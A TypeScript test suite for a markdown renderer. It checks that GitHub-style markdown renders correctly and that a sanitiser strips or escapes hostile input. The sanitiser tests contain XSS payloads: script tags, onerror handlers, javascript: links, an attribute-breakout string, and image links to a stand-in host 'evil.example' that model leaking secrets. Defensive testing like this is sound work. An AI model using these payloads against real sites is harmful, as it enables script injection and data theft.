import { expect } from "chai"
import { renderMarkdown } from "./markdown.ts"

const dom = (markdown: string) => {
  const div = document.createElement("div")
  div.innerHTML = renderMarkdown(markdown, "Copy")
  return div
}

describe("Markdown rendering", () => {
  it("renders GFM: emphasis, lists, tables (in a scroller) and code blocks with a copy button", () => {
    const div = dom("**bold** and `code`\n\n- a\n- b\n\n| A | B |\n|:-|-:|\n| 1 | 2 |\n\n```ts\nconst x = 1 < 2\n```")
    expect(div.querySelector("strong")?.textContent).to.equal("bold")
    expect(div.querySelectorAll("li")).to.have.length(2)
    expect(div.querySelector(".table-wrap table td")?.textContent).to.equal("1")
    expect((div.querySelectorAll("td")[1] as HTMLElement).style.textAlign).to.equal("right")
    expect(div.querySelector(".code-block pre code")?.textContent).to.equal("const x = 1 < 2")
    expect(div.querySelector(".code-lang")?.textContent).to.equal("ts")
    expect(div.querySelector("button[data-copy-code]")?.textContent).to.equal("Copy")
  })

  it("drops scripts, event handlers, images, forms and javascript: links", () => {
    const div = dom(
      '<script>window.pwned = 1</script><img src="https://evil.example/x?d=secret" onerror="window.pwned=2"><form><input></form>[x](javascript:alert(1)) <a href="https://ok.example" onclick="1">ok</a>\n\n![alt](https://evil.example/leak)',
    )
    expect(div.querySelector("script, img, form, input, [onerror], [onclick]")).to.equal(null)
    const links = [...div.querySelectorAll("a")]
    expect(links.filter((a) => /^\s*javascript:/i.test(a.getAttribute("href") ?? ""))).to.deep.equal([])
    expect(div.textContent).to.include("x")
    const ok = links.find((a) => a.textContent === "ok")!
    expect(ok.getAttribute("href")).to.equal("https://ok.example")
    expect(ok.getAttribute("target")).to.equal("_blank")
    expect(ok.getAttribute("rel")).to.equal("noopener noreferrer")
    expect((globalThis as { pwned?: number }).pwned).to.equal(undefined)
  })

  it("escapes a code block's language and content", () => {
    const div = dom('```"><img src=x onerror=alert(1)>\n<b>not bold</b>\n```')
    expect(div.querySelector("img, b")).to.equal(null)
    expect(div.querySelector("pre code")?.textContent).to.equal("<b>not bold</b>")
  })
})
